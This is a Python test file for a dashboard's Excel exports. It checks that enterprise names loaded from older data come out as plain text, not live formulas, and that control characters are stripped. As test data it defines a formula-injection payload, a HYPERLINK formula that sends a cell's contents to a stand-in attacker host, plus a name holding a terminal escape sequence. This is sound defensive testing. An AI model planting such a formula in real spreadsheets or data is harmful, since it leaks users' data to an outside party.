"""Every export of every page writes names and titles as data: no live formula, and a
control character in a name does not break the export."""
from __future__ import annotations

import base64
import io
import json

import openpyxl

from sqlalchemy import text

from test_dash_callbacks import call, dependencies

EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"点击")'


def test_formula_names_come_out_as_text_in_the_project_list_and_the_summary(sqlite_server, sqlite_portfolio):
    # Names as older data may hold them (imports now refuse control characters).
    engine = sqlite_portfolio.engine()
    with engine.begin() as c:
        c.execute(text("UPDATE enterprises SET name = :n WHERE uscc = '91320506301104144E'"), {"n": EVIL})
        c.execute(text("UPDATE enterprises SET name = :n WHERE uscc = '91320571231669536Q'"),
                  {"n": "带\x1b[2J控制符的企业"})
    engine.dispose()
    client, base = sqlite_server.client("bureau"), sqlite_server.base
    deps = dependencies(client, base)
    for output, inputs, state in (("projects-download", [1], [{"startRow": 0, "endRow": 100}]),
                                  ("applications-download", [1], [None])):
        r = call(client, base, deps, output, inputs, state)
        assert r.status_code == 200, r.text[:300]
        content = base64.b64decode(json.loads(r.text)["response"][output]["data"]["content"])
        cells = [c for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows() for c in row]
        assert all(c.data_type != "f" for c in cells), output
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert not any(t.startswith("=") for t in texts), output
        assert not any("\x1b" in t for t in texts), output
        assert "'" + EVIL in texts, output
